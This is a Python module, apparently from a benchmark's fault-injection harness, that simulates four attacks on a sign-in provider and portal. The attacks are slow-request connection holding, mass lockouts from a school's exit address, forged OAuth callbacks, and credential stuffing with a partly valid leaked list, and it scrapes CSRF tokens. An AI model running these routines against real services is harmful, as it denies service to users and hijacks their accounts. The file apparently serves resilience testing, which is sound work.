"""Somebody who attacks in other ways: `python -m bench.faults.intruder SITE KIND --per-s R --seconds S`.

slow      opens connections to the provider and sends each request so slowly that it never ends; R is how many are held
lockout   wrong passwords for one name after the other from the school's own exit, so that people there are locked out
callback  made-up answers at the portal's callback, from everywhere
leaked    a list from elsewhere in which every sixth password is right
"""

from __future__ import annotations

import itertools
import secrets
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from urllib.parse import urlsplit

import httpx

from bench.faults.attacker import form_token
from bench.faults.outsiders import FAILURES, browser, errand, hold, keep_trying

_EXIT = "203.0.113.18"  # one of the addresses by which the school's people go out
_EVERY_SIXTH = 6


@dataclass(frozen=True, slots=True)
class Aim:
    """Where the two services are, and whose names and passwords are known."""

    provider: str
    portal: str
    accounts: tuple[tuple[str, str], ...]


def main() -> None:
    """Attack until the time is over."""
    come = errand(__doc__, ("slow", "lockout", "callback", "leaked"), 6.0)
    accounts = tuple((one["username"], one["password"]) for one in come.people)
    aim = Aim(come.provider, come.portal, accounts)
    if come.kind == "slow":
        at = urlsplit(aim.provider)
        head = f"POST /sign-in/ HTTP/1.1\r\nHost: {at.netloc}\r\n"
        hold(at, head.encode(), b"X-More: 1\r\n", int(come.per_s), come.seconds)
        return
    tries = {"lockout": _lockouts, "callback": _callbacks, "leaked": _leaked}[come.kind](aim)
    keep_trying((partial(_attempt, aim, *one) for one in tries), come.per_s, come.seconds)


def _lockouts(aim: Aim) -> Iterator[tuple[str, str, str]]:
    for name, _ in itertools.cycle(aim.accounts):
        for _ in range(FAILURES):
            yield name, secrets.token_urlsafe(8), _EXIT


def _callbacks(_: Aim) -> Iterator[tuple[str, str, str]]:
    for number in itertools.count():
        yield "", "", f"100.{64 + number % 50}.{number % 250}.9"


def _leaked(aim: Aim) -> Iterator[tuple[str, str, str]]:
    for number, (name, password) in enumerate(itertools.cycle(aim.accounts)):
        right = number % _EVERY_SIXTH == 0
        yield name, password if right else secrets.token_urlsafe(8), f"100.{64 + number % 50}.{number % 250}.11"


def _attempt(aim: Aim, name: str, password: str, source: str) -> None:
    with suppress(httpx.HTTPError), browser(source) as client:
        if not name:
            made_up = {"code": secrets.token_urlsafe(20), "state": secrets.token_urlsafe(20)}
            client.get(f"{aim.portal}/sign-in/callback/", params=made_up)
            return
        page = client.get(f"{aim.provider}/sign-in/")
        typed = {"username": name, "password": password, "csrfmiddlewaretoken": form_token(page.text)}
        client.post(f"{aim.provider}/sign-in/", data=typed)


if __name__ == "__main__":
    main()
